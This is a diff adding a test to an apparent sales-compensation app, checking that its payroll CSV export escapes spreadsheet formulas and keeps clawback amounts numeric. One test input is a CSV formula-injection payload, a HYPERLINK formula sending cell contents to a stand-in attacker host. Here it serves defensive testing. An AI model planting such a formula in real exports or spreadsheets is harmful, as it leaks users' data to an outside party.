@@ -17,7 +17,7 @@ import httpx
 
 from tests.compensation.test_earnings import ASSIGN, MY_EARNINGS, SAVE_PLAN, SIMULATE, STATEMENT_FIELDS, field_plan, put_on_plan, this_month, win
 from tests.conftest import Server
-from tests.pipeline.test_deals import ORDER, PAYMENT, login
+from tests.pipeline.test_deals import ORDER, PAYMENT, login, move, open_deal, stage_ids
 from tests.support import GraphQLClient, World
 
 SHANGHAI = ZoneInfo("Asia/Shanghai")
@@ -292,6 +292,41 @@ async def test_a_month_exports_as_csv_and_xlsx_for_payroll(server: Server, world
         assert (await http.get("/api/compensation/export", params={"period": month})).status_code == 403
     async with httpx.AsyncClient(base_url=server.url) as http:
         assert (await http.get("/api/compensation/export", params={"period": month})).status_code == 401
+
+
+async def test_the_csv_export_hands_no_formula_to_the_spreadsheet_and_keeps_amounts_numbers(server: Server, world: World, rep: GraphQLClient) -> None:
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
+    async with await login(server, world.admin.email) as admin:
+        month = await this_month(admin)
+        plan = field_plan(month, components=[{"key": "c", "name": "Commission", "kind": "COMMISSION", "rate": "3", "payout": "COLLECTION"}])
+        await put_on_plan(admin, [world.rep.id], month, plan)
+    stages = await stage_ids(rep)
+    for title, amount in ((hyperlink, "100000.00"), ("@SUM(1+1)", "1000.00"), ("-2+3", "1000.00")):
+        deal = await open_deal(rep, world, title=title, amount=amount)
+        moved = await move(rep, deal, stages["won"], reason="Signed")
+        assert moved["__typename"] == "DealSuccess", moved
+        if title == hyperlink:  # collected, then refunded: a clawback line with a negative payable
+            payment_id = await collect(rep, moved["deal"], amount, "40000.00", datetime.now(UTC))
+            refund = {"clientId": str(uuid.uuid4()), "paymentId": payment_id, "amount": "40000.00", "refundedAt": datetime.now(UTC).isoformat(), "note": "Returned"}
+            assert (await rep.data(REFUND, {"input": refund}))["refundPayment"]["__typename"] == "OrderSuccess"
+
+    async with await login(server, world.manager.email) as manager:
+        exported = await manager.http.get("/api/compensation/export", params={"period": month, "format": "csv"})
+    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+
+    descriptions = {r[5] for r in rows if r and r[0] == world.rep.name}
+    assert {"'" + hyperlink, "'@SUM(1+1)", "'-2+3"} <= descriptions
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r if not _is_number(cell))
+    clawback = [r for r in rows if r and r[0] == world.rep.name and r[3] == "clawback"]
+    assert [r[12] for r in clawback] == ["-1200.00"]  # a number: sums in the sheet still work
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        Decimal(cell)
+    except ArithmeticError:
+        return False
+    return True
 
 
 async def test_a_plan_change_keeps_old_versions_and_people_cannot_be_on_two_plans(server: Server, world: World) -> None:
